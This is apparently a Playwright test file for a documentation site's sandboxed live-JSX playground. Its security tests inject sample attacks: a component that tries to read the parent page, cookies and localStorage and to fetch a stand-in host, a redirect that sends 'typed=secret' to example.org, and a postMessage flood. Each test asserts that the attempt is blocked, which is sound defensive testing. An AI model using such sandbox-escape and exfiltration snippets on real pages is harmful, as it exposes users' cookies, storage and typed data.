/** Live JSX: a React component that readers edit and run, drawn in a sandboxed frame. */
import type {Page} from '@playwright/test';
import {follow} from './support/quiet';
import {expect, test, visit} from './support/test';

const path = '/docs/community/libraries';

const exampleOf = (page: Page) => page.getByRole('group', {name: 'Live example: Draw cells with React'});
const frameOf = (page: Page) => exampleOf(page).frameLocator('iframe');
const run = (page: Page) => exampleOf(page).getByRole('button', {name: /^Run/}).click();

/** Puts other code into the example, and runs it. */
async function runCode(page: Page, code: string): Promise<void> {
  const edit = exampleOf(page).getByRole('button', {name: /^Edit and run/});
  if (await edit.isVisible()) await edit.click();
  await exampleOf(page).getByRole('textbox').fill(code);
  await run(page);
}

test('what it needs comes when the reader runs it, and a mistake is named', async ({page, allow}) => {
  allow.errors.push(/SyntaxError|Unexpected/);
  const traffic = follow(page);
  await visit(page, path);
  await exampleOf(page).scrollIntoViewIfNeeded();
  await traffic.quiet();
  expect(traffic.paths().filter((file) => file.includes('sandbox-jsx'))).toEqual([]);
  await run(page);
  await frameOf(page).getByRole('slider').fill('1');
  await expect(frameOf(page).getByRole('img', {name: '7 cells'})).toBeVisible();
  await expect(exampleOf(page).locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
  await runCode(page, '<b>{1 +}</b>');
  await expect(frameOf(page).getByText(/Unexpected token/)).toBeVisible();
  await runCode(page, '() => <b>{h3.gridDisk("8928308280fffff", useState(3)[0]).length} cells</b>');
  await expect(frameOf(page).getByText('37 cells')).toBeVisible();
  await exampleOf(page)
    .getByRole('button', {name: /^Reset/})
    .click();
  await expect(exampleOf(page).locator('iframe')).toHaveCount(0);
});

test('nothing that it does reaches the page, its storage, or the network', async ({page, allow}) => {
  allow.errors.push(/Content Security Policy|SecurityError|Failed to fetch|Blocked|sandboxed/);
  await visit(page, path);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await runCode(
    page,
    `function Attack() {
  const [open, setOpen] = useState(['trying']);
  useEffect(() => {
    const ways = [() => parent.document.title, () => localStorage, () => document.cookie, () => fetch('https://example.org/attack')];
    const tries = ways.map(async (way) => way());
    Promise.allSettled(tries).then((all) => setOpen(all.map(({status}) => status)));
    top.postMessage('attack', '*');
  }, []);
  return <p>{open.join()}</p>;
}`,
  );
  await expect(frameOf(page).getByText('rejected,rejected,rejected,rejected')).toBeVisible();
  expect(asked.filter((address) => address.includes('example.org'))).toEqual([]);
  await expect(page).toHaveTitle(/libraries/i);
});

test('a frame that floods the page with messages is closed, and Reset answers', async ({page}) => {
  await visit(page, path);
  const flood = "for (let i = 0; i < 20000; i++) parent.postMessage(i, '*'); setTimeout(flood);";
  await runCode(page, `() => { const flood = () => { ${flood} }; setTimeout(flood); return <b>x</b>; }`);
  await expect(exampleOf(page).getByRole('alert')).toContainText('sent too many messages');
  await expect(exampleOf(page).locator('iframe')).toHaveCount(0);
  await exampleOf(page)
    .getByRole('button', {name: /^Reset/})
    .click();
  await expect(exampleOf(page).getByRole('alert')).toHaveCount(0);
});

test('on a host without headers, no other page comes into the frame', async ({page, allow}) => {
  allow.errors.push(/Content Security Policy|ERR_BLOCKED/);
  await page.route('**/docs/**', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    return route.fulfill({response, headers: {'content-type': 'text/html; charset=utf-8'}});
  });
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await visit(page, path);
  await runCode(page, "() => { location.href = 'https://example.org/?typed=secret'; return <b>x</b>; }");
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
  expect(asked.filter((address) => address.includes('example.org'))).toEqual([]);
});

test('playgroundPosition places the results of all live code', async ({page}) => {
  const resultIsAbove = () =>
    page
      .locator('.live-example')
      .first()
      .evaluate(({children}) => {
        const isCode = Array.from(children, (child) => child.matches('.live-code'));
        return isCode.indexOf(false) < isCode.lastIndexOf(true);
      });
  await visit(page, '/docs/quickstart');
  expect(await resultIsAbove()).toBe(false);

  await page.route(/\/assets\/js\/main\.[^/]+\.js$/, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('playgroundPosition:"bottom"', 'playgroundPosition:"top"');
    await route.fulfill({response, body});
  });
  // The browser itself draws the page: the server's HTML has the option of the build. Here it begins without live code.
  await visit(page, '/docs/community/tutorials');
  await page
    .locator('a[href="/docs/quickstart"]')
    .first()
    .evaluate((link: HTMLElement) => link.click());
  await page.waitForURL('/docs/quickstart');
  await expect.poll(resultIsAbove).toBe(true);
});
